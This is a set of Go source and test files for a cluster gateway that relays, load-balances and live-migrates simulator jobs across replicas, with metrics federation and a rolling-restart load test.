				f.help = meta
			} else {
				f.typ = meta
			}
			cur = f
			continue
		}
		if strings.HasPrefix(line, "#") {
			continue // other comments
		}
		s, ok := parseSample(line)
		if !ok {
			continue
		}
		// Attribute to the current family when the sample is one of its
		// series (exact name or a suffixed histogram line); otherwise the
		// sample starts or joins a family of its own name.
		if cur != nil && (s.name == cur.name || strings.HasPrefix(s.name, cur.name+"_")) {
			cur.samples = append(cur.samples, s)
			continue
		}
		f := family(s.name)
		f.samples = append(f.samples, s)
		cur = f
	}
	out := make([]*promFamily, 0, len(order))
	for _, name := range order {
		out = append(out, fams[name])
	}
	return out
}

// parseSample splits one sample line into (name, labels, value).
func parseSample(line string) (promSample, bool) {
	if brace := strings.IndexByte(line, '{'); brace >= 0 && (strings.IndexByte(line, ' ') == -1 || brace < strings.IndexByte(line, ' ')) {
		end := strings.LastIndexByte(line, '}')
		if end <= brace {
			return promSample{}, false
		}
		name := line[:brace]
		labels := line[brace+1 : end]
		value := strings.TrimSpace(line[end+1:])
		if name == "" || value == "" {
			return promSample{}, false
		}
		return promSample{name: name, labels: labels, value: value}, true
	}
	name, value, ok := strings.Cut(line, " ")
	if !ok || name == "" || strings.TrimSpace(value) == "" {
		return promSample{}, false
	}
	return promSample{name: name, value: strings.TrimSpace(value)}, true
}

// writeFederated scrapes every replica and writes the merged exposition.
// A replica that cannot be scraped (down, mid-restart) is skipped and
// counted — the merge shows the survivors rather than failing the scrape.
func (g *Gateway) writeFederated(w io.Writer) {
	var (
		order  []string
		merged = map[string]*promFamily{}
	)
	for _, rep := range g.replicas {
		body, err := g.scrapeReplica(rep)
		if err != nil {
			g.federateErrs.Add(1)
			continue
		}
		for _, fam := range parseExposition(body) {
			mf, ok := merged[fam.name]
			if !ok {
				mf = &promFamily{name: fam.name, help: fam.help, typ: fam.typ}
				merged[fam.name] = mf
				order = append(order, fam.name)
			}
			for _, s := range fam.samples {
				// The replica label goes first so every federated series
				// reads replica-first, and any pre-existing labels survive.
				if s.labels == "" {
					s.labels = fmt.Sprintf("replica=%q", rep.Label)
				} else {
					s.labels = fmt.Sprintf("replica=%q,%s", rep.Label, s.labels)
				}
				mf.samples = append(mf.samples, s)
			}
		}
	}
	for _, name := range order {
		fam := merged[name]
		if fam.help != "" {
			fmt.Fprintf(w, "# HELP %s %s\n", fam.name, fam.help)
		}
		if fam.typ != "" {
			fmt.Fprintf(w, "# TYPE %s %s\n", fam.name, fam.typ)
		}
		for _, s := range fam.samples {
			if s.labels == "" {
				fmt.Fprintf(w, "%s %s\n", s.name, s.value)
			} else {
				fmt.Fprintf(w, "%s{%s} %s\n", s.name, s.labels, s.value)
			}
		}
	}
}

// scrapeReplica GETs one replica's /metrics under the probe timeout.
func (g *Gateway) scrapeReplica(rep *Replica) ([]byte, error) {
	ctx, cancel := context.WithTimeout(context.Background(), g.cfg.ProbeTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rep.URL+"/metrics", nil)
	if err != nil {
		return nil, err
	}
	resp, err := g.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		io.Copy(io.Discard, resp.Body)
		return nil, fmt.Errorf("federate: %s /metrics: status %d", rep.Label, resp.StatusCode)
	}
	return io.ReadAll(resp.Body)
}
