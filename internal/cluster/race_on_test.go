//go:build race

package cluster

// raceEnabled lets the heavyweight load tests scale themselves down: the
// race detector slows the simulator roughly an order of magnitude, and the
// contract being checked (zero acknowledged-then-lost jobs through a full
// rolling restart) does not depend on the absolute client count.
const raceEnabled = true
