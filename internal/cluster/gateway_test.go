package cluster

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"testing"
	"time"

	"splitmem/internal/serve"
)

const exitSrc = `
_start:
    mov ebx, 7
    mov eax, 1
    int 0x80
`

// longSpin burns ~36M cycles across many stream slices, then exits 9. Sized
// to keep the job mid-flight for well over the drain-delivery latency even
// on a fast, loaded host: the drain-based migration tests race the drain
// against job completion, and the job must lose (the count has been raised
// twice as machine construction and per-slice checkpoints got cheaper).
const longSpin = `
_start:
    mov ecx, 12000000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    mov ebx, 9
    mov eax, 1
    int 0x80
`

// fastCfg is the replica config the cluster tests use: small slices and
// frequent checkpoints so migration has material to work with.
func fastCfg() serve.Config {
	return serve.Config{
		Workers:          2,
		Backlog:          64,
		StreamSlice:      50_000,
		CheckpointCycles: 50_000,
	}
}

// fastGW is a gateway config tuned for test speed.
func fastGW() Config {
	return Config{
		ProbeInterval: 20 * time.Millisecond,
		ProbeTimeout:  time.Second,
		FailThreshold: 3,
		RetryBudget:   10,
		RetryBackoff:  10 * time.Millisecond,
		MaxRetryDelay: 100 * time.Millisecond,
	}
}

type gwLine struct {
	Type   string           `json:"type"`
	ID     uint64           `json:"id"`
	Name   string           `json:"name"`
	Event  json.RawMessage  `json:"event"`
	Result *serve.JobResult `json:"result"`
}

func postJob(t *testing.T, url string, body map[string]any) *http.Response {
	t.Helper()
	b, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(url, "application/json", bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func readLines(t *testing.T, r io.Reader) []gwLine {
	t.Helper()
	var lines []gwLine
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64<<10), 8<<20)
	for sc.Scan() {
		if len(bytes.TrimSpace(sc.Bytes())) == 0 {
			continue
		}
		var l gwLine
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			t.Fatalf("bad line %q: %v", sc.Bytes(), err)
		}
		lines = append(lines, l)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return lines
}

func TestRingWalkStableAndComplete(t *testing.T) {
	r := newRing([]string{"a", "b", "c"})
	for key := uint64(1); key <= 100; key++ {
		w1, w2 := r.walk(key), r.walk(key)
		if len(w1) != 3 {
			t.Fatalf("walk(%d) visited %d replicas, want 3", key, len(w1))
		}
		for i := range w1 {
			if w1[i] != w2[i] {
				t.Fatalf("walk(%d) not stable: %v vs %v", key, w1, w2)
			}
		}
		seen := map[int]bool{}
		for _, idx := range w1 {
			if seen[idx] {
				t.Fatalf("walk(%d) repeats replica %d", key, idx)
			}
			seen[idx] = true
		}
	}
	// Key distribution: each replica should own a nontrivial share of the
	// first preference slot.
	counts := map[int]int{}
	for key := uint64(1); key <= 3000; key++ {
		counts[r.walk(key)[0]]++
	}
	for idx, c := range counts {
		if c < 300 {
			t.Fatalf("replica %d owns only %d/3000 keys — ring badly skewed: %v", idx, c, counts)
		}
	}
}

func TestGatewayBasicRelay(t *testing.T) {
	h, err := NewHarness(3, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	// Streaming submission.
	resp := postJob(t, h.URL()+"/v1/jobs?stream=1", map[string]any{"name": "hello", "source": exitSrc})
	lines := readLines(t, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	if lines[0].Type != "accepted" || lines[0].Name != "hello" {
		t.Fatalf("first line %+v", lines[0])
	}
	last := lines[len(lines)-1]
	if last.Type != "result" || last.Result == nil || last.Result.Reason != "all-done" ||
		!last.Result.Exited || last.Result.ExitStatus != 7 {
		t.Fatalf("result %+v", last.Result)
	}
	if last.Result.ID != lines[0].ID {
		t.Fatalf("result id %d != accepted id %d", last.Result.ID, lines[0].ID)
	}

	// Synchronous submission.
	resp = postJob(t, h.URL()+"/v1/jobs", map[string]any{"name": "sync", "source": exitSrc})
	var res serve.JobResult
	if err := json.NewDecoder(resp.Body).Decode(&res); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if res.Reason != "all-done" || res.ExitStatus != 7 {
		t.Fatalf("sync result %+v", res)
	}

	// Bad job: the replica's 400 comes through verbatim.
	resp = postJob(t, h.URL()+"/v1/jobs", map[string]any{"name": "bad"})
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("bad job: status %d, want 400", resp.StatusCode)
	}
}

// TestGatewayMigratesOffDrainingReplica is the tentpole smoke: a long job
// starts, its replica drains mid-run, and the client's single stream ends
// with the full result — byte-compared against an uninterrupted oracle.
func TestGatewayMigratesOffDrainingReplica(t *testing.T) {
	h, err := NewHarness(3, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	// Oracle: same job on a standalone single node.
	oracle, err := newNode(fastCfg())
	if err != nil {
		t.Fatal(err)
	}
	defer oracle.close()
	oresp := postJob(t, oracle.URL()+"/v1/jobs?stream=1", map[string]any{
		"name": "mig", "source": longSpin, "timeout_ms": 30000,
	})
	olines := readLines(t, oresp.Body)
	oresp.Body.Close()

	resp := postJob(t, h.URL()+"/v1/jobs?stream=1", map[string]any{
		"name": "mig", "source": longSpin, "timeout_ms": 30000,
	})
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	first, err := br.ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	var acc gwLine
	json.Unmarshal([]byte(first), &acc)
	if acc.Type != "accepted" {
		t.Fatalf("first line %q", first)
	}

	// Find the replica that owns the job and drain it mid-run.
	deadline := time.Now().Add(5 * time.Second)
	var ownerIdx = -1
	for ownerIdx == -1 && time.Now().Before(deadline) {
		h.Gateway.jobsMu.Lock()
		for _, j := range h.Gateway.jobs {
			if rep, up := j.owner(); rep != nil && up != 0 {
				for i, r := range h.Gateway.Replicas() {
					if r == rep {
						ownerIdx = i
					}
				}
			}
		}
		h.Gateway.jobsMu.Unlock()
		if ownerIdx == -1 {
			time.Sleep(2 * time.Millisecond)
		}
	}
	if ownerIdx == -1 {
		t.Fatal("job never got an upstream owner")
	}
	h.Nodes[ownerIdx].Drain()

	lines := readLines(t, br)
	lines = append([]gwLine{acc}, lines...)
	last := lines[len(lines)-1]
	if last.Type != "result" || last.Result == nil {
		t.Fatalf("no terminal result; last line %+v", last)
	}
	if last.Result.Reason != "all-done" || last.Result.ExitStatus != 9 {
		t.Fatalf("migrated result %+v", last.Result)
	}
	if !last.Result.Migrated {
		t.Fatal("result not marked migrated")
	}
	if h.Gateway.Migrations() == 0 {
		t.Fatal("gateway counted no migrations")
	}

	// Event stream must be byte-identical to the oracle's.
	var got, want []json.RawMessage
	for _, l := range lines {
		if l.Type == "event" {
			got = append(got, l.Event)
		}
	}
	for _, l := range olines {
		if l.Type == "event" {
			want = append(want, l.Event)
		}
	}
	if len(got) != len(want) {
		t.Fatalf("migrated stream has %d events, oracle %d", len(got), len(want))
	}
	for i := range got {
		if !bytes.Equal(got[i], want[i]) {
			t.Fatalf("event %d differs:\n  got:  %s\n  want: %s", i, got[i], want[i])
		}
	}
	ores := olines[len(olines)-1].Result
	gres := last.Result
	if gres.Cycles != ores.Cycles || gres.EventCount != ores.EventCount ||
		gres.Detections != ores.Detections || gres.Stdout != ores.Stdout {
		t.Fatalf("migrated result deterministic fields differ:\n  got:  %+v\n  want: %+v", gres, ores)
	}
}

// TestGatewayHealthz checks the replica table and identity surface.
func TestGatewayHealthz(t *testing.T) {
	h, err := NewHarness(2, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	resp, err := http.Get(h.URL() + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var hb struct {
		Status   string         `json:"status"`
		Instance string         `json:"instance"`
		Replicas []snapshotView `json:"replicas"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&hb); err != nil {
		t.Fatal(err)
	}
	if hb.Status != "ok" || hb.Instance == "" {
		t.Fatalf("healthz %+v", hb)
	}
	if len(hb.Replicas) != 2 {
		t.Fatalf("%d replicas in healthz, want 2", len(hb.Replicas))
	}
	for i, r := range hb.Replicas {
		if r.State != "up" || r.Instance == "" || r.Workers != 2 {
			t.Fatalf("replica %d view %+v", i, r)
		}
	}
}

// TestReplicaRestartDetection: killing and restarting a node must be seen
// as Down (or Draining) then Up with a new instance ID and a restart count.
func TestReplicaRestartDetection(t *testing.T) {
	h, err := NewHarness(2, fastCfg(), fastGW())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	rep := h.Gateway.Replicas()[0]
	before := rep.InstanceID()
	if before == "" {
		t.Fatal("no instance id after first probe sweep")
	}
	h.Nodes[0].Kill()
	if !h.AwaitState(0, StateDown, 5*time.Second) {
		t.Fatalf("gateway never marked the killed replica down (state %v)", rep.State())
	}
	if err := h.Nodes[0].Restart(); err != nil {
		t.Fatal(err)
	}
	if !h.AwaitState(0, StateUp, 5*time.Second) {
		t.Fatalf("gateway never re-admitted the restarted replica (state %v)", rep.State())
	}
	if rep.InstanceID() == before {
		t.Fatal("instance id unchanged across restart")
	}
	if rep.Restarts() != 1 {
		t.Fatalf("restart count %d, want 1", rep.Restarts())
	}
}
