package cluster

// The acceptance run the gateway exists for: 200 concurrent clients against
// three replicas while every replica is restarted once, with zero
// acknowledged-then-lost jobs and migrated work oracle-verified against an
// uninterrupted single node.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"sync"
	"testing"
	"time"

	"splitmem/internal/serve"
	"splitmem/internal/serve/loadtest"
)

// sentinelSpin burns ~100M cycles (a couple of seconds of wall time), long
// enough to be mid-flight when its replica drains, then exits 3. Under the
// race detector the simulator runs ~10x slower, so the spin shrinks to keep
// the sentinel's lifetime comparable. (Both counts grew when sparse-frame
// snapshots made per-slice checkpoints cheap and jobs correspondingly
// faster.)
const (
	sentinelSpin = `
_start:
    mov ecx, 33000000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    mov ebx, 3
    mov eax, 1
    int 0x80
`
	sentinelSpinRace = `
_start:
    mov ecx, 8000000
spin:
    sub ecx, 1
    cmp ecx, 0
    jnz spin
    mov ebx, 3
    mov eax, 1
    int 0x80
`
)

func TestClusterRollingRestart200(t *testing.T) {
	if testing.Short() {
		t.Skip("full 200-client rolling-restart run skipped in -short mode")
	}
	clients, spin := 200, sentinelSpin
	if raceEnabled {
		clients, spin = 60, sentinelSpinRace
	}
	rcfg := serve.Config{Workers: 4, Backlog: 128, StreamSlice: 100_000, CheckpointCycles: 250_000}
	gcfg := fastGW()
	gcfg.RetryBudget = 20
	h, err := NewHarness(3, rcfg, gcfg)
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	// Oracle for the sentinel, on an uninterrupted standalone node.
	sbody := map[string]any{"name": "sentinel", "source": spin, "timeout_ms": 120000}
	oracle := oracleRun(t, rcfg, sbody)

	// Launch the sentinel through the gateway and note which replica owns
	// it — the rolling restart starts there, so the sentinel is guaranteed
	// to live through a drain of its own host.
	resp := postJob(t, h.URL()+"/v1/jobs?stream=1", sbody)
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	first, err := br.ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	var acc gwLine
	json.Unmarshal([]byte(first), &acc)
	if acc.Type != "accepted" {
		t.Fatalf("sentinel first line %q", first)
	}
	sentOwner := awaitOwnerIdx(t, h, 5*time.Second)

	type sentinelResult struct {
		lines []gwLine
		err   error
	}
	sch := make(chan sentinelResult, 1)
	go func() {
		var out []gwLine
		sc := bufio.NewScanner(br)
		sc.Buffer(make([]byte, 0, 64<<10), 8<<20)
		for sc.Scan() {
			line := bytes.TrimSpace(sc.Bytes())
			if len(line) == 0 {
				continue
			}
			var l gwLine
			if err := json.Unmarshal(line, &l); err != nil {
				sch <- sentinelResult{nil, fmt.Errorf("bad sentinel line %q: %v", line, err)}
				return
			}
			out = append(out, l)
		}
		sch <- sentinelResult{out, sc.Err()}
	}()

	// The load: 200 clients x 2 jobs, streaming; every fifth client runs a
	// long job so in-flight work exists whenever a node drains. Migrated
	// results are captured for oracle comparison.
	type captured struct {
		c, j int
		res  serve.JobResult
	}
	var (
		capMu    sync.Mutex
		migrated []captured
	)
	lcfg := loadtest.Config{
		BaseURL:    h.URL(),
		Clients:    clients,
		Jobs:       2,
		Stream:     true,
		Retry503:   true,
		MaxRetries: 500,
		RetryDelay: 10 * time.Millisecond,
		Body: func(c, j int) ([]byte, error) {
			if c%5 == 0 {
				return json.Marshal(map[string]any{
					"name":       fmt.Sprintf("rr-c%d-j%d", c, j),
					"source":     longSpin,
					"timeout_ms": 60000,
				})
			}
			return loadtest.DefaultJobBody(c, j)
		},
		OnResult: func(c, j int, raw []byte) {
			var res serve.JobResult
			if json.Unmarshal(raw, &res) == nil && res.Migrated {
				capMu.Lock()
				migrated = append(migrated, captured{c, j, res})
				capMu.Unlock()
			}
		},
	}
	type loadDone struct {
		rep *loadtest.Report
		err error
	}
	lch := make(chan loadDone, 1)
	go func() {
		rep, err := loadtest.Run(lcfg)
		lch <- loadDone{rep, err}
	}()

	// Let the load ramp, then restart every replica once, the sentinel's
	// owner first.
	time.Sleep(300 * time.Millisecond)
	order := []int{sentOwner, (sentOwner + 1) % 3, (sentOwner + 2) % 3}
	if err := h.RollingRestart(60*time.Second, order...); err != nil {
		t.Fatalf("rolling restart: %v", err)
	}

	ld := <-lch
	if ld.err != nil {
		t.Fatalf("loadtest: %v", ld.err)
	}
	rep := ld.rep
	t.Log(rep.String())
	for _, f := range rep.Failures {
		t.Errorf("loadtest failure: %s", f)
	}
	if rep.GaveUp != 0 {
		t.Errorf("%d jobs gave up; the gateway should have absorbed every restart window", rep.GaveUp)
	}
	if want := rep.Clients * rep.Jobs; rep.Acknowledged != want {
		t.Errorf("acknowledged %d of %d jobs", rep.Acknowledged, want)
	}
	if rep.Lost() != 0 {
		t.Errorf("%d acknowledged jobs lost — the contract the cluster exists to keep", rep.Lost())
	}
	if got := h.Gateway.synthesized.Load(); got != 0 {
		t.Errorf("%d results were synthesized failures; all jobs should have completed for real", got)
	}
	for i, r := range h.Gateway.Replicas() {
		if r.Restarts() != 1 {
			t.Errorf("replica %d restart count %d, want 1", i, r.Restarts())
		}
	}

	// The sentinel lived through the drain of its own host: its stream must
	// be complete, marked migrated, and byte-identical to the oracle's.
	sr := <-sch
	if sr.err != nil {
		t.Fatalf("sentinel stream: %v", sr.err)
	}
	lines := append([]gwLine{acc}, sr.lines...)
	last := lines[len(lines)-1]
	if last.Type != "result" || last.Result == nil ||
		last.Result.Reason != "all-done" || last.Result.ExitStatus != 3 {
		t.Fatalf("sentinel result %+v", last.Result)
	}
	if !last.Result.Migrated {
		t.Fatal("sentinel was never migrated despite its owner draining first")
	}
	assertMatchesOracle(t, lines, oracle)

	// Spot-check migrated loadgen jobs against fresh single-node runs.
	capMu.Lock()
	check := append([]captured(nil), migrated...)
	capMu.Unlock()
	if rep.Migrated == 0 || len(check) == 0 {
		t.Fatal("no loadgen job was migrated during three node drains")
	}
	if len(check) > 3 {
		check = check[:3]
	}
	onode, err := newNode(rcfg)
	if err != nil {
		t.Fatal(err)
	}
	defer onode.close()
	for _, m := range check {
		b, err := lcfg.Body(m.c, m.j)
		if err != nil {
			t.Fatal(err)
		}
		oresp, err := http.Post(onode.URL()+"/v1/jobs", "application/json", bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		var ores serve.JobResult
		if err := json.NewDecoder(oresp.Body).Decode(&ores); err != nil {
			t.Fatal(err)
		}
		oresp.Body.Close()
		if m.res.Reason != ores.Reason || m.res.ExitStatus != ores.ExitStatus ||
			m.res.Cycles != ores.Cycles || m.res.EventCount != ores.EventCount ||
			m.res.Detections != ores.Detections || m.res.Stdout != ores.Stdout {
			t.Errorf("migrated job c%d j%d differs from oracle:\n  got:  %+v\n  want: %+v",
				m.c, m.j, m.res, ores)
		}
	}
}
