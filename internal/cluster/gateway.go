package cluster

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"splitmem/internal/chaos"
	"splitmem/internal/serve"
	"splitmem/internal/telemetry"
	"splitmem/internal/telemetry/hostspan"
)

// Config shapes a Gateway.
type Config struct {
	// Replicas are the backend base URLs ("http://host:port", no trailing
	// slash). Membership is fixed for the gateway's lifetime; a restarted
	// replica keeps its URL and is recognized by its changed instance ID.
	Replicas []string

	ProbeInterval time.Duration // health-probe period (default 250ms)
	ProbeTimeout  time.Duration // per-probe HTTP timeout (default 2s)
	FailThreshold int           // consecutive failures before Down (default 3)

	RetryBudget   int           // submission/resume attempts per job (default 8)
	RetryBackoff  time.Duration // first retry delay, doubled per attempt (default 25ms)
	MaxRetryDelay time.Duration // cap on any retry/Retry-After wait (default 1s)

	// Circuit breaker per replica: BreakerThreshold consecutive failures
	// (probe or relay) trip it open; after BreakerCooldown it half-opens
	// for one trial. See breaker.go for the full state machine.
	BreakerThreshold int           // failures to trip (default 5)
	BreakerCooldown  time.Duration // open → half-open delay (default 500ms)

	// HedgeDelay staggers the hedged checkpoint fetch during migration:
	// the previous hop's export ring is raced against the current owner's
	// after this head start for the primary (default 75ms).
	HedgeDelay time.Duration

	MaxBodyBytes int64 // client request body limit (default 8 MiB)

	// Chaos injects cluster-level faults (probe drops, checkpoint
	// corruption in transit). Replica kills are the harness's job — the
	// gateway only ever observes them.
	Chaos chaos.ClusterConfig

	// HTTP overrides the backend client (tests inject a transport with
	// CloseIdleConnections control). Default: a fresh client, no timeout —
	// job relays are long-lived streams, so per-call timeouts apply only to
	// probes and checkpoint fetches.
	HTTP *http.Client

	// Host-span tracing and failure forensics. Tracing is on by default:
	// the gateway mints a trace ID per submission, propagates it to
	// replicas in the X-Splitmem-Trace header, and serves merged traces on
	// GET /v1/traces/{id}. The flight recorder is opt-in by directory.
	TraceSpanCap        int    // gateway span-ring capacity (0 = hostspan.DefaultCap)
	NoTracing           bool   // disable gateway host-span tracing
	FlightRecorderDir   string // post-mortem dump directory ("" = disabled)
	FlightRecorderSpans int    // span tail captured per dump (default 256)

	// Flight-recorder disk cap: after each dump the oldest flight-*.json
	// files are pruned until at most FlightRecorderMaxDumps remain and
	// their total size is at most FlightRecorderMaxBytes. A long chaos
	// campaign must never fill the disk with forensics.
	FlightRecorderMaxDumps int   // default 512
	FlightRecorderMaxBytes int64 // default 256 MiB
}

func (c Config) withDefaults() Config {
	if c.ProbeInterval <= 0 {
		c.ProbeInterval = 250 * time.Millisecond
	}
	if c.ProbeTimeout <= 0 {
		c.ProbeTimeout = 2 * time.Second
	}
	if c.FailThreshold <= 0 {
		c.FailThreshold = 3
	}
	if c.RetryBudget <= 0 {
		c.RetryBudget = 8
	}
	if c.RetryBackoff <= 0 {
		c.RetryBackoff = 25 * time.Millisecond
	}
	if c.MaxRetryDelay <= 0 {
		c.MaxRetryDelay = time.Second
	}
	if c.BreakerThreshold <= 0 {
		c.BreakerThreshold = 5
	}
	if c.BreakerCooldown <= 0 {
		c.BreakerCooldown = 500 * time.Millisecond
	}
	if c.HedgeDelay <= 0 {
		c.HedgeDelay = 75 * time.Millisecond
	}
	if c.MaxBodyBytes <= 0 {
		c.MaxBodyBytes = 8 << 20
	}
	if c.HTTP == nil {
		c.HTTP = &http.Client{}
	}
	if c.FlightRecorderSpans <= 0 {
		c.FlightRecorderSpans = 256
	}
	if c.FlightRecorderMaxDumps <= 0 {
		c.FlightRecorderMaxDumps = 512
	}
	if c.FlightRecorderMaxBytes <= 0 {
		c.FlightRecorderMaxBytes = 256 << 20
	}
	return c
}

// Gateway is the cluster front door: an http.Handler exposing the same
// /v1/jobs surface as a single replica, backed by N replicas with
// failover and live migration.
type Gateway struct {
	cfg        Config
	replicas   []*Replica
	ring       *ring
	client     *http.Client
	instanceID string
	startTime  time.Time
	chaos      *chaos.ClusterInjector
	mux        *http.ServeMux

	rec *hostspan.Recorder // nil when Config.NoTracing
	fr  *flightRecorder    // nil when Config.FlightRecorderDir is empty

	// jitter decorrelates retry sleeps across gateway instances and jobs
	// (equal jitter: a wait of d becomes uniform in [d/2, d)).
	jitter *chaos.Jitter

	nextID atomic.Uint64

	jobsMu sync.Mutex
	jobs   map[uint64]*gwJob

	// Counters, surfaced on /healthz.
	accepted      atomic.Uint64 // jobs acknowledged to clients
	completed     atomic.Uint64 // acknowledged jobs that reached a result
	retries       atomic.Uint64 // submission attempts re-routed (429/503/error)
	migrations    atomic.Uint64 // successful live migrations (checkpoint resumes)
	scratchResume atomic.Uint64 // migrations resumed from scratch (no checkpoint)
	corruptFetch  atomic.Uint64 // checkpoint fetches rejected by the CRC gate
	staleExport   atomic.Uint64 // checkpoint fetches rejected by the job-identity gate
	shed          atomic.Uint64 // client submissions refused (no replica available)
	synthesized   atomic.Uint64 // results synthesized after the retry budget died
	flightDumps   atomic.Uint64 // flight-recorder post-mortems written
	federateErrs  atomic.Uint64 // replica /metrics scrapes that failed

	// Resilience counters (this PR's subsystem), also on /healthz.
	deadlineExceeded atomic.Uint64 // jobs rejected or failed on the propagated deadline
	breakerTrips     atomic.Uint64 // breaker transitions into open
	hedgedFetches    atomic.Uint64 // checkpoint fetches that launched a hedge arm
	hedgeWins        atomic.Uint64 // hedged fetches the secondary arm won
	hedgeLosses      atomic.Uint64 // hedged fetches the primary arm won

	// Gateway-tier instruments. telemetry.Registry is not goroutine-safe,
	// so every instrument touch and every /metrics render holds metricsMu.
	metricsMu   sync.Mutex
	metrics     *telemetry.Registry
	retriesVec  *telemetry.CounterVec // splitmem_gateway_retries_total{reason}
	breakerVec  *telemetry.CounterVec // splitmem_gateway_breaker_transitions_total{transition}
	probeRTT    *telemetry.Histogram  // probe round-trip microseconds
	migrationMs *telemetry.Histogram  // migration hop wall milliseconds

	probeCtx    context.Context
	probeCancel context.CancelFunc
	probeWG     sync.WaitGroup
}

// wallMsBuckets are the bucket bounds (milliseconds) for gateway wall-time
// histograms: end-to-end job latency and migration hops.
var wallMsBuckets = []uint64{1, 2, 5, 10, 25, 50, 100, 250, 500, 1000, 2500, 5000, 10000, 30000, 60000}

// probeRTTBuckets are the bucket bounds (microseconds) for probe RTTs.
var probeRTTBuckets = []uint64{100, 250, 500, 1000, 2500, 5000, 10000, 25000, 50000, 100000, 250000, 1000000}

// New builds a Gateway over the given replicas and starts its prober.
func New(cfg Config) (*Gateway, error) {
	cfg = cfg.withDefaults()
	if len(cfg.Replicas) == 0 {
		return nil, errors.New("cluster: at least one replica required")
	}
	g := &Gateway{
		cfg:        cfg,
		client:     cfg.HTTP,
		instanceID: newInstanceID(),
		startTime:  time.Now(),
		jobs:       make(map[uint64]*gwJob),
	}
	if cfg.Chaos.Enabled() {
		g.chaos = chaos.NewCluster(cfg.Chaos)
	}
	if !cfg.NoTracing {
		g.rec = hostspan.NewRecorder("gateway:"+g.instanceID, cfg.TraceSpanCap)
	}
	g.fr = newFlightRecorder(cfg.FlightRecorderDir, cfg.FlightRecorderSpans,
		cfg.FlightRecorderMaxDumps, cfg.FlightRecorderMaxBytes)
	g.jitter = chaos.NewJitter(fnvSeed(g.instanceID))
	ids := make([]string, len(cfg.Replicas))
	for i, u := range cfg.Replicas {
		r := &Replica{URL: u, Label: fmt.Sprintf("r%d", i)}
		r.br = newBreaker(cfg.BreakerThreshold, cfg.BreakerCooldown,
			func(from, to breakerState) { g.noteBreakerTransition(r, from, to) })
		g.replicas = append(g.replicas, r)
		ids[i] = u
	}
	g.ring = newRing(ids)
	g.initMetrics()

	mux := http.NewServeMux()
	mux.HandleFunc("/v1/jobs", g.handleJobs)
	mux.HandleFunc("/v1/traces/", g.handleTraces)
	mux.HandleFunc("/healthz", g.handleHealthz)
	mux.HandleFunc("/metrics", g.handleMetrics)
	g.mux = mux

	g.probeCtx, g.probeCancel = context.WithCancel(context.Background())
	// Synchronous first sweep so the gateway never serves a request before
	// it has seen every replica once.
	for _, r := range g.replicas {
		g.probeOnce(r)
	}
	g.probeWG.Add(1)
	go g.probeLoop()
	return g, nil
}

// fnvSeed hashes an instance ID into a jitter seed (FNV-1a), so every
// gateway incarnation jitters differently but reproducibly.
func fnvSeed(s string) uint64 {
	h := uint64(0xCBF29CE484222325)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 0x100000001B3
	}
	return h
}

func newInstanceID() string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		return fmt.Sprintf("t%x", time.Now().UnixNano())
	}
	return hex.EncodeToString(b[:])
}

// initMetrics builds the gateway-tier registry: GaugeFunc samplers over
// the atomics the relay loop already maintains, plus the wall-time
// histograms and the per-reason retry vector.
func (g *Gateway) initMetrics() {
	m := telemetry.NewRegistry()
	reg := func(name, help string, v *atomic.Uint64) {
		m.GaugeFunc(name, help, func() float64 { return float64(v.Load()) })
	}
	reg("splitmem_gateway_jobs_accepted_total", "jobs acknowledged to clients", &g.accepted)
	reg("splitmem_gateway_jobs_completed_total", "acknowledged jobs that reached a result", &g.completed)
	reg("splitmem_gateway_migrations_total", "successful live migrations", &g.migrations)
	reg("splitmem_gateway_scratch_resumes_total", "migrations resumed from scratch", &g.scratchResume)
	reg("splitmem_gateway_corrupt_fetches_total", "checkpoint fetches rejected by the CRC gate", &g.corruptFetch)
	reg("splitmem_gateway_stale_exports_total", "checkpoint fetches rejected by the job-identity gate", &g.staleExport)
	reg("splitmem_gateway_shed_total", "client submissions refused (no replica available)", &g.shed)
	reg("splitmem_gateway_synthesized_total", "results synthesized after the retry budget died", &g.synthesized)
	reg("splitmem_gateway_flight_dumps_total", "flight-recorder post-mortems written", &g.flightDumps)
	reg("splitmem_gateway_federate_errors_total", "replica /metrics scrapes that failed", &g.federateErrs)
	reg("splitmem_gateway_deadline_exceeded_total", "jobs rejected or failed on the propagated deadline", &g.deadlineExceeded)
